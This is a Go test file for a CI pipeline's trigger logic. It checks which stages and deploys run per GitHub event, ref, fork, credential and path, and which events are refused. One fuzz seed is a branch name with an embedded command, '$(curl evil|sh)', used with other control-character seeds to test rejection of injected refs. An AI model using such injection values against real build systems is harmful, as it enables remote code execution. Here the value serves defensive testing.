package trigger

import (
	"slices"
	"strings"
	"testing"

	"dagger/sensor-backend/gitref"
)

const sha = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"

// refs are the references of the exhaustive table, by what they are.
func refs() map[string]string {
	return map[string]string{
		"main": "refs/heads/main", "develop": "refs/heads/develop", "branch": "refs/heads/feature/x",
		"queue":   "refs/heads/gh-readonly-queue/main/pr-7-0a1b",
		"release": "refs/tags/v1.2.3", "tag": "refs/tags/vacation", "pull": "refs/pull/12/merge",
	}
}

// expected is the table, written apart from the rules: what runs for an event
// with a reference, without fork, path and choice; "" is a refusal.
func expected() map[string]map[string]string {
	all, testAndBuild := "test check build infra lambda ecs smoke notify", "test check build notify"
	pushes := map[string]string{"main": all, "develop": testAndBuild, "branch": "test check notify", "queue": "test check notify", "release": testAndBuild, "tag": "test check notify", "pull": ""}
	every := func(runs string, names ...string) map[string]string {
		m := map[string]string{}
		for _, name := range names {
			m[name] = runs
		}
		return m
	}
	return map[string]map[string]string{
		Push:        pushes,
		PullRequest: every("test check notify", "pull"),
		MergeGroup:  every("test check notify", "main", "develop", "branch", "queue"),
		Release:     {"release": testAndBuild, "tag": "test check notify"},
		Schedule:    every("drift notify", "main", "develop", "branch", "queue"),
		Dispatch:    every(all, "main", "develop", "branch", "queue", "release", "tag"),
	}
}

func TestDecideEveryEventRefForkAndPath(t *testing.T) {
	t.Parallel()
	paths := map[string][]string{
		"unknown": nil, "code": {"services/main.go"}, "docs": {"README.md", "docs/a.txt", "LICENSE", "docs/b.svg", "pipeline.png"},
		"both": {"README.md", "infra/main.tf"},
	}
	seen := 0
	for _, event := range Events() {
		for refName, ref := range refs() {
			for _, fork := range []bool{false, true} {
				for _, credentials := range []bool{false, true} {
					for pathName, changed := range paths {
						seen++
						want := expected()[event][refName]
						switch {
						case want == "" || fork && credentials:
							want = ""
						case fork:
							want = "test check notify"
						case pathName == "docs" && event != Dispatch && event != Schedule && !strings.HasPrefix(ref, "refs/tags/") && (event != Push || refName != "main"):
							want = "test notify"
						case credentials:
							want = strings.Replace(want, " smoke", "", 1)
						}
						d, err := Decide(Event{Name: event, Ref: ref, SHA: sha, Fork: fork, Credentials: credentials, Paths: changed})
						if got := strings.Join(d.Running(), " "); got != want || (err != nil) != (want == "") {
							t.Errorf("%s of %s, fork %v, credentials %v, paths %s: %q, %v, want %q", event, refName, fork, credentials, pathName, got, err, want)
						}
						if err == nil {
							whole(t, d)
						}
					}
				}
			}
		}
	}
	if want := len(Events()) * len(refs()) * 2 * 2 * len(paths); seen != want {
		t.Errorf("%d cases, want %d", seen, want)
	}
}

// TestDocumentationAfterAFailedDeploy has pushes of documentation to main: what runs is
// compared, not the previous push.
func TestDocumentationAfterAFailedDeploy(t *testing.T) {
	t.Parallel()
	docs, code := []string{"README.md"}, []string{"README.md", "services/main.go"}
	for _, tt := range []struct {
		name          string
		paths         []string
		deployed      string
		deployedPaths []string
		only          bool
	}{
		{"the commit before runs", docs, sha, docs, true},
		{"the deploy of the commit before failed", docs, sha, code, false},
		{"two pushes of documentation after a good deploy", docs, sha, []string{"README.md", "docs/a.md"}, true},
		{"code was pushed, and taken back by a push", code, sha, docs, true},
		{"nothing runs yet", docs, "", nil, false},
		{"nothing runs yet, and all changed", docs, "", docs, false},
		{"what changed since is not known", docs, sha, nil, false},
	} {
		d, err := Decide(Event{Name: Push, Ref: "refs/heads/main", SHA: sha, Paths: tt.paths, Deployed: tt.deployed, DeployedPaths: tt.deployedPaths})
		if got := strings.Join(d.Running(), " "); err != nil || (got == "test notify") != tt.only || d.Deploys == tt.only {
			t.Errorf("%s: %q, %v", tt.name, got, err)
		}
		if tt.only && d.Why != "only documentation changed since 0a1b2c3d4e5f, which runs, so it is only tested" {
			t.Errorf("%s: %q", tt.name, d.Why)
		}
	}
	// What runs says nothing about branches that are not deployed.
	d, err := Decide(Event{Name: Push, Ref: "refs/heads/x", SHA: sha, Paths: docs, Deployed: sha, DeployedPaths: code})
	if got := strings.Join(d.Running(), " "); err != nil || got != "test notify" {
		t.Errorf("a branch: %q, %v", got, err)
	}
}

// TestDispatchFromEveryRef has every environment, reference, set of stages and list of
// branches: prod is deployed from main, a release on main, or a branch that is named.
func TestDispatchFromEveryRef(t *testing.T) {
	t.Parallel()
	for _, environment := range []string{"", "dev", "staging", "prod"} {
		for name, ref := range refs() {
			for _, onMain := range []bool{false, true} {
				for _, allowed := range [][]string{nil, {"develop"}, {"feature/x", "develop"}, {"mai", "v1.2.3"}} {
					for _, stages := range []string{"", "test", "build", "infra", "ecs", "smoke", "drift"} {
						if name == "pull" {
							continue
						}
						e := Event{Name: Dispatch, Ref: ref, SHA: sha, Environment: environment, OnMain: onMain, AllowedBranches: allowed, Stages: strings.Fields(stages)}
						d, err := Decide(e)
						deploys := stages != "test" && stages != "build" && stages != "drift"
						_, branch, _ := strings.Cut(ref, "refs/heads/")
						may := !deploys || name == "main" || name == "release" && onMain || branch != "" && slices.Contains(allowed, branch) || environment != "prod" && allowed == nil
						if (err == nil) != may || err == nil && d.Deploys != deploys {
							t.Errorf("%q from %s, on main %t, allowed %q, stages %q: deploys %t, %v", environment, name, onMain, allowed, stages, d.Deploys, err)
						}
						if err != nil && (len(d.Running()) > 0 || !strings.Contains(err.Error(), "is deployed from main or a release tag on main")) {
							t.Errorf("refused, yet runs %v: %v", d.Running(), err)
						}
					}
				}
			}
		}
	}
}

// whole checks what holds for every decision.
func whole(t *testing.T, d Decision) {
	t.Helper()
	var names []string
	running := d.Running()
	for i, s := range d.Stages {
		names = append(names, s.Name)
		if s.Why == "" {
			t.Errorf("%s has no reason", s.Name)
		}
		for _, need := range Pipeline()[i].Needs {
			if s.Runs && !slices.Contains(running, need) && s.Name != Smoke {
				t.Errorf("%s runs without %s", s.Name, need)
			}
		}
	}
	if got := strings.Join(names, " "); got != "test check build infra lambda ecs smoke negative load drift notify" {
		t.Errorf("stages %v", names)
	}
	if d.Deploys != slices.Contains(running, Infra) {
		t.Errorf("deploys is %v with %v", d.Deploys, running)
	}
	if d.Deploys && d.Environment == "" {
		t.Error("deploys to no environment")
	}
}

func TestDecideEnvironment(t *testing.T) {
	t.Parallel()
	tests := []struct {
		e       Event
		want    string
		deploys bool
	}{
		{Event{Name: Push, Ref: "refs/heads/main"}, "prod", true},
		{Event{Name: Push, Ref: "refs/heads/main", Paths: []string{"a.md"}}, "prod", true},
		{Event{Name: Push, Ref: "refs/heads/main", Deployed: sha, DeployedPaths: []string{"a.md"}}, "", false},
		{Event{Name: Push, Ref: "refs/heads/develop"}, "dev", false},
		{Event{Name: Push, Ref: "refs/heads/x"}, "", false},
		{Event{Name: Push, Ref: "refs/tags/v1"}, "dev", false},
		{Event{Name: PullRequest, Ref: "refs/pull/1/merge"}, "", false},
		{Event{Name: Schedule, Ref: "refs/heads/main"}, "prod", false},
		{Event{Name: Schedule, Ref: "refs/heads/main", Environment: "staging"}, "staging", false},
		{Event{Name: Dispatch, Ref: "refs/heads/main"}, "dev", true},
		{Event{Name: Dispatch, Ref: "refs/heads/main", Environment: "prod"}, "prod", true},
		{Event{Name: Dispatch, Ref: "refs/heads/main", Stages: []string{Test}, Environment: "prod"}, "", false},
	}
	for _, tt := range tests {
		tt.e.SHA = sha
		d, err := Decide(tt.e)
		if err != nil || d.Environment != tt.want || d.Deploys != tt.deploys {
			t.Errorf("%+v: %q, deploys %v, %v", tt.e, d.Environment, d.Deploys, err)
		}
	}
}

func TestDecideDispatch(t *testing.T) {
	t.Parallel()
	tests := []struct{ stages, want string }{
		{"", "test check build infra lambda ecs smoke notify"},
		{"test", "test notify"},
		{"build", "test check build notify"},
		{"infra", "test check build infra notify"},
		{"lambda", "test check build infra lambda notify"},
		{"ecs lambda", "test check build infra lambda ecs notify"},
		{"smoke", "test check build infra lambda ecs smoke notify"},
		{"negative", "test check build infra lambda ecs smoke negative notify"},
		{"load", "test check build infra lambda ecs smoke negative load notify"},
		{"drift", "drift notify"},
		{"notify", "notify"},
		{"build test build", "test check build notify"},
	}
	for _, tt := range tests {
		d, err := Decide(Event{Name: Dispatch, Ref: "refs/heads/x", SHA: sha, Stages: strings.Fields(tt.stages)})
		if got := strings.Join(d.Running(), " "); err != nil || got != tt.want {
			t.Errorf("%q: %q, %v, want %q", tt.stages, got, err, tt.want)
		}
	}
	d, err := Decide(Event{Name: Dispatch, Ref: "refs/heads/x", SHA: sha, Credentials: true, Stages: []string{Smoke}})
	if err != nil || !slices.Contains(d.Running(), Smoke) {
		t.Errorf("smoke was named, yet %v, %v", d.Running(), err)
	}
}

func TestDecideRefuses(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		e    Event
		want string
	}{
		{"unknown event", Event{Name: "issue_comment", Ref: "refs/heads/main", SHA: sha}, `unknown event "issue_comment": choose from push, pull_request, merge_group, release, schedule, workflow_dispatch`},
		{"no event", Event{Ref: "refs/heads/main", SHA: sha}, `unknown event ""`},
		{"the dangerous twin", Event{Name: "pull_request_target", Ref: "refs/heads/main", SHA: sha}, "use pull_request"},
		{"short reference", Event{Name: Push, Ref: "main", SHA: sha}, "give the full name"},
		{"wrong reference", Event{Name: PullRequest, Ref: "refs/heads/main", SHA: sha}, `event pull_request cannot come with the reference of a branch, "refs/heads/main": it comes with that of a pull request`},
		{"short commit", Event{Name: Push, Ref: "refs/heads/main", SHA: "0a1b"}, "give the full 40 hex digits"},
		{"deleted", Event{Name: Push, Ref: "refs/heads/x", SHA: strings.Repeat("0", 40)}, "refs/heads/x was deleted"},
		{"fork with credentials", Event{Name: PullRequest, Ref: "refs/pull/1/merge", SHA: sha, Fork: true, Credentials: true}, "comes from a fork and AWS credentials are given"},
		{"stages of a push", Event{Name: Push, Ref: "refs/heads/main", SHA: sha, Stages: []string{Test}}, "stages are chosen by workflow_dispatch alone"},
		{"environment of a push", Event{Name: Push, Ref: "refs/heads/main", SHA: sha, Environment: "dev"}, "the branch decides"},
		{"unknown environment", Event{Name: Dispatch, Ref: "refs/heads/main", SHA: sha, Environment: "production"}, `unknown environment "production": choose from dev, staging, prod`},
		{"unknown stage", Event{Name: Dispatch, Ref: "refs/heads/main", SHA: sha, Stages: []string{"tset"}}, `unknown stage "tset": choose from test, check, build, infra, lambda, ecs, smoke, negative, load, drift`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			d, err := Decide(tt.e)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %v, want %q", err, tt.want)
			}
			if len(d.Running()) > 0 {
				t.Errorf("refused, yet runs %v", d.Running())
			}
		})
	}
}

func TestDocsOnly(t *testing.T) {
	t.Parallel()
	for _, p := range []string{"README.md", "services/README.MD", "docs/x", "LICENSE", "a/LICENSE", "a.png", "docs/services/a.svg"} {
		if !docsOnly([]string{p}) {
			t.Errorf("%s is documentation", p)
		}
	}
	for _, p := range []string{"", "docs", "docs/../ci/main.go", "../a.md", "services/internal/httpapi/page/icon.svg", "infra/a.png", "x.mdx", "LICENSE.go", ".github/workflows/deploy.yml"} {
		if docsOnly([]string{p}) {
			t.Errorf("%q is not documentation", p)
		}
	}
	if docsOnly(nil) || docsOnly([]string{"a.md", "b.go"}) {
		t.Error("unknown and mixed changes are not documentation alone")
	}
}

func TestExplain(t *testing.T) {
	t.Parallel()
	e := Event{Name: Push, Ref: "refs/heads/develop", SHA: sha, Credentials: true}
	d, err := Decide(e)
	if err != nil {
		t.Fatal(err)
	}
	want := `event         push of refs/heads/develop at 0a1b2c3d4e5f
rule          develop is tested and built
environment   dev
target        the AWS account of the run's credentials
deploys       no

STAGE      RUNS   WHY
test       yes    develop is tested and built
check      yes    develop is tested and built
build      yes    develop is tested and built
infra      no     develop is tested and built
lambda     no     develop is tested and built
ecs        no     develop is tested and built
smoke      no     develop is tested and built
negative   no     develop is tested and built
load       no     develop is tested and built
drift      no     develop is tested and built
notify     yes    every run is reported
`
	if got := Explain(e, d); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	// A zero event must not panic either.
	if got := Explain(Event{}, Decision{}); !strings.Contains(got, "environment   none") {
		t.Errorf("got\n%s", got)
	}
}

func FuzzDecide(f *testing.F) {
	for _, ref := range []string{"refs/heads/main", "refs/heads/$(curl evil|sh)", "refs/heads/a'\"`;b", "refs/heads/a\nb", "refs/tags/v1\x1b[2J", "refs/heads/main\u202e", "refs/heads/" + strings.Repeat("x", 300), "refs/pull/1/merge"} {
		f.Add(Push, ref, sha)
	}
	f.Fuzz(func(t *testing.T, name, ref, commit string) {
		e := Event{Name: name, Ref: ref, SHA: commit, Credentials: true}
		d, err := Decide(e)
		if err != nil {
			if strings.ContainsAny(err.Error(), "\n\r\x1b\x00") || len(err.Error()) > 1500 {
				t.Errorf("unfit error %q", err)
			}
			return
		}
		whole(t, d)
		if d.Deploys && name != Dispatch && ref != "refs/heads/main" {
			t.Errorf("%q deploys", ref)
		}
		text := Explain(e, d)
		if lines := strings.Count(text, "\n"); lines != 18 {
			t.Errorf("the explanation has %d lines:\n%s", lines, text)
		}
		if strings.ContainsAny(text, "\r\x1b\x00\u202e") {
			t.Errorf("the explanation holds control characters: %q", text)
		}
		if _, err := gitref.ParseName(ref); err != nil {
			t.Errorf("took the reference %q: %v", ref, err)
		}
	})
}

func TestDecideByHand(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		stages      string
		credentials bool
		want        string
	}{
		{"", false, "test build infra lambda ecs smoke notify"},
		{"", true, "test build infra lambda ecs notify"},
		{"smoke", true, "smoke notify"},
		{"ecs build", false, "build ecs notify"},
		{"load", true, "load notify"},
		{"notify", false, "notify"},
	} {
		d, err := Decide(Event{Name: ByHand, Stages: strings.Fields(tt.stages), Environment: "staging", Credentials: tt.credentials})
		if got := strings.Join(d.Running(), " "); err != nil || got != tt.want {
			t.Errorf("%q, credentials %v: %q, %v, want %q", tt.stages, tt.credentials, got, err, tt.want)
		}
		if works := tt.want != "notify"; works != (d.Environment == "staging") {
			t.Errorf("%q works on %q", tt.stages, d.Environment)
		}
	}
	for _, stage := range []string{Check, Drift, "tset"} {
		d, err := Decide(Event{Name: ByHand, Stages: []string{stage}})
		if err == nil || len(d.Running()) > 0 || !strings.Contains(err.Error(), "choose from test, build, infra, lambda, ecs, smoke, negative, load") {
			t.Errorf("%s: runs %v, %v", stage, d.Running(), err)
		}
	}
}

// TestPipeline wants needs to point backwards, and what deploys to work on an
// environment.
func TestPipeline(t *testing.T) {
	t.Parallel()
	var before []string
	for _, d := range Pipeline() {
		for _, need := range d.Needs {
			if !slices.Contains(before, need) {
				t.Errorf("%s needs %s, which does not come before it", d.Name, need)
			}
		}
		if d.Deploys && !d.OnAWS {
			t.Errorf("%s deploys to no environment", d.Name)
		}
		before = append(before, d.Name)
	}
}

func TestNamed(t *testing.T) {
	t.Parallel()
	d := Named([]string{Build, ECS}, "staging")
	if got := strings.Join(d.Running(), " "); got != "build ecs notify" || !d.Deploys || d.Environment != "staging" {
		t.Errorf("%q, %+v", got, d)
	}
	if d := Named([]string{Test}, "staging"); d.Deploys || d.Environment != "" {
		t.Errorf("tests alone work on %q, deploy %v", d.Environment, d.Deploys)
	}
}
